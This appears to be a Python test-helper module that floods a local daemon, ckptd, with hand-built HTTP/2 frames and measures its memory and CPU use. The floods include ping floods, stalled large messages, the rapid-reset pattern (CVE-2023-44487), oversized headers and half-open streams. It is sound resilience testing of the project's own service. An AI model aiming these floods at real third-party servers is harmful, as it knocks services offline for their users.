"""lib_flood - misbehaving clients, for the scripts that run them against ckptd. Each writes HTTP/2
frames by hand, over any connection, in a separate process (another user's where this one is root).
Meanwhile ckptd's resident memory and CPU time are read."""

import multiprocessing
import os
import socket
import ssl
import struct
import subprocess
import time

from lib_store import CLI, is_sanitized
from lib_tap import test

USER = 12345
MIB = 1 << 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW = 0, 1, 3, 4, 6, 8
HALF_CALLS = 128  # as many as a connection may have open
CONNECTIONS, SENDERS, SECONDS = 40, 100, 5
# The time of an attack before the saves beside it: by then the user's saved-up budget is spent, or
# not; and the CPU time that ckptd may spend on it.
FIRST_SECONDS, ALONE_SECONDS = 1, 2
# The part of a core. Beside other work the same calls take more CPU time: caches and threads of a
# core are shared. At a load of 20 on two cores up to 0.25 was seen.
CORE_PART, BUSY_CORE_PART, BUSY_LOAD = 0.1, 0.3, 1.5
TRIES = 3  # on a busy machine the saved-up budget may still be spent later


def frame(kind, flags, stream, payload=b""):
    head = struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream)
    return head + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = b"".join(literal(*pair) for pair in [
    (b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"localhost"),
    (b":path", b"/holdfast.v1.Checkpoint/Hello"), (b"te", b"trailers"),
    (b"content-type", b"application/grpc")])


def greet(where):
    """A connection to that path, or made by that function, that greeted; nothing reads it unless a
    caller does."""
    if callable(where):
        connection = where()
    else:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(where)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def pour(connections, data, seconds):
    """Sends it on all connections again and again. Returns the bytes that were accepted."""
    taken, until = 0, time.monotonic() + seconds
    for connection in connections:
        connection.setblocking(False)
    while time.monotonic() < until:
        for connection in connections:
            try:
                taken += connection.send(data)
            except (BlockingIOError, ssl.SSLWantWriteError):
                time.sleep(0.0005)
            except OSError:
                pass
    return taken


def send_unread_pings(where):
    pings = frame(PING, 0, 0, b"holdfast") * 4096
    return pour([greet(where) for _ in range(CONNECTIONS)], pings, SECONDS)


def send_endless_messages(where, count=SENDERS):
    """Each sends a message of 3.9 MiB without its last byte; it reads windows, nothing else."""
    size = int(3.9 * MIB)
    senders = []
    for _ in range(count):
        sender = greet(where)
        sender.sendall(frame(HEADERS, 4, 1, CALL))
        sender.sendall(frame(DATA, 0, 1, b"\0" + struct.pack(">I", size)))
        sender.setblocking(False)
        senders.append({"socket": sender, "left": size - 1, "stream": 60000, "all": 60000,
                        "text": b""})
    until, sent = time.monotonic() + SECONDS, 0
    while time.monotonic() < until:
        for sender in senders:
            sent += send_some(sender)
        time.sleep(0.001)
    return sent


def send_some(sender):
    try:
        sender["text"] += sender["socket"].recv(65536)
    except OSError:
        pass
    while len(sender["text"]) >= 9:
        length = int.from_bytes(sender["text"][:3], "big")
        if len(sender["text"]) < 9 + length:
            break
        kind, stream = sender["text"][3], int.from_bytes(sender["text"][5:9], "big")
        if kind == WINDOW:
            sender["stream" if stream else "all"] += int.from_bytes(sender["text"][9:13], "big")
        sender["text"] = sender["text"][9 + length:]
    size = min(sender["left"], sender["stream"], sender["all"], 16384)
    if size < min(1024, sender["left"]) or size == 0:
        return 0
    last = 1 if size == sender["left"] and "stream_id" in sender else 0
    try:  # a frame goes as a whole, or this sender is done
        count = sender["socket"].send(frame(DATA, last, sender.get("stream_id", 1), bytes(size)))
    except OSError:
        return 0
    for window in ("left", "stream", "all"):
        sender[window] -= size if count == size + 9 else sender[window]
    return count


def drain(connection):
    """Reads all that is there."""
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass


def send_read_pings(where):
    """Pings whose answers it reads, as fast as they come."""
    pings, taken = frame(PING, 0, 0, b"holdfast") * 16, 0
    connections = [greet(where) for _ in range(CONNECTIONS)]
    for connection in connections:
        connection.setblocking(False)
    until = time.monotonic() + SECONDS
    while time.monotonic() < until:
        for connection in connections:
            drain(connection)
            try:
                taken += connection.send(pings)
            except OSError:
                pass
    return taken // len(pings) * 16


def send_calls(where):
    """Whole calls of Hello, one after the other on each connection, whose answers it reads."""
    return send_again(where, lambda stream: frame(HEADERS, 4, stream, CALL) +
                      frame(DATA, 1, stream, bytes(5)),
                      frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30)))


def send_whole_messages(where):
    """Messages of 3.9 MiB that are no request of the method, one after the other."""
    size, senders = int(3.9 * MIB), [{"socket": greet(where), "stream_id": -1, "left": 0,
                                      "stream": 0, "all": 65535, "text": b""} for _ in range(8)]
    for sender in senders:
        sender["socket"].setblocking(False)
    until, whole = time.monotonic() + SECONDS, 0
    while time.monotonic() < until:
        for sender in senders:
            if sender["left"] == 0:
                sender["stream_id"] += 2
                sender.update(left=size, stream=65000)
                number = sender["stream_id"]
                try:
                    sender["socket"].send(frame(HEADERS, 4, number, CALL) + frame(
                        DATA, 0, number, b"\0" + struct.pack(">I", size)))
                except OSError:
                    continue
            send_some(sender)
            whole += sender["left"] == 0
    return whole


def send_again(where, what, first=b""):
    """On each connection sends `first`, then what(stream) for ever new streams, until it is cut
    off; answers are read. Returns how often it was sent."""
    connections, until, stream, count = [greet(where) for _ in range(CONNECTIONS)], 0, 1, 0
    for connection in connections:
        connection.sendall(first)
        connection.setblocking(False)
    until = time.monotonic() + SECONDS
    while time.monotonic() < until:
        for connection in connections:
            drain(connection)
            try:
                connection.send(what(stream))
                count += 1
            except OSError:
                pass
        stream += 2
    return count


def send_resets(where):
    """Calls that are cancelled at once (CVE-2023-44487)."""
    return send_again(where, lambda stream: frame(HEADERS, 4, stream, CALL) +
                      frame(RESET, 0, stream, b"\0\0\0\x08"))


def send_long_metadata(where):
    """Calls with 12 KiB more than they need, which are refused."""
    value = literal(b"x-long", b"x" * 100) * 110
    return send_again(where, lambda stream: frame(HEADERS, 4, stream, CALL + value) +
                      frame(DATA, 1, stream, bytes(5)))


def send_half_calls(where):
    """As many calls as a connection may have, on all of them, whose messages never come."""
    begun = b"".join(frame(HEADERS, 4, 2 * call + 1, CALL) for call in range(HALF_CALLS))
    return pour([greet(where) for _ in range(CONNECTIONS)], begun, 0.1) + (
        time.sleep(SECONDS) or 0)


def only_connect(where):
    count, until = 0, time.monotonic() + SECONDS
    while time.monotonic() < until:
        try:
            greet(where).close()
            count += 1
        except OSError:
            pass
    return count


def attack(pipe, action, where):
    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(USER)
        os.setuid(USER)
    pipe.send(action(where))


class Attack:
    def __init__(self, action, where):
        self.pipe, theirs = multiprocessing.Pipe()
        self.process = multiprocessing.get_context("fork").Process(
            target=attack, args=(theirs, action, where))
        self.process.start()

    def runs(self):
        return self.process.is_alive()

    def end(self):
        self.process.join(60)
        try:
            return self.pipe.recv() if self.pipe.poll() else "it failed"
        except EOFError:
            return "it failed"


def resident(world):
    with open(f"/proc/{world.process.pid}/statm") as file:
        return int(file.read().split()[1]) * os.sysconf("SC_PAGESIZE") // MIB


def processor_seconds(world):
    with open(f"/proc/{world.process.pid}/stat") as file:
        fields = file.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def spent_on(world, action, where):
    """(the attack, the part of a core that ckptd spends on it alone)"""
    attack = Attack(action, where)
    time.sleep(FIRST_SECONDS)
    begun, began = processor_seconds(world), time.monotonic()
    time.sleep(ALONE_SECONDS)
    return attack, (processor_seconds(world) - begun) / (time.monotonic() - began)


def under(world, name, action, where, step):
    """(the most MiB of growth, True when every save and list succeeded, the attacker's output)
    during an attack."""
    before, most, well, parts = resident(world), 0, True, []
    is_busy = os.getloadavg()[0] > BUSY_LOAD * os.cpu_count()
    most_part = BUSY_CORE_PART if is_busy else CORE_PART
    for _ in range(TRIES):
        attack, part = spent_on(world, action, where)
        parts.append(part)
        if part < most_part or len(parts) == TRIES:
            break
        attack.end()
    test(f"{name}: ckptd spends less than {most_part:.0%} of a core on them",
         min(parts) < most_part or is_sanitized(), parts)
    while attack.runs():
        step += 1
        saved = world.try_save(step)
        asked = subprocess.run([CLI, "status", "--server", world.server], capture_output=True,
                               text=True, timeout=60)
        if not saved[0] or asked.returncode != 0:
            well = (saved, asked)
        most = max(most, resident(world) - before)
    return most, well, attack.end(), step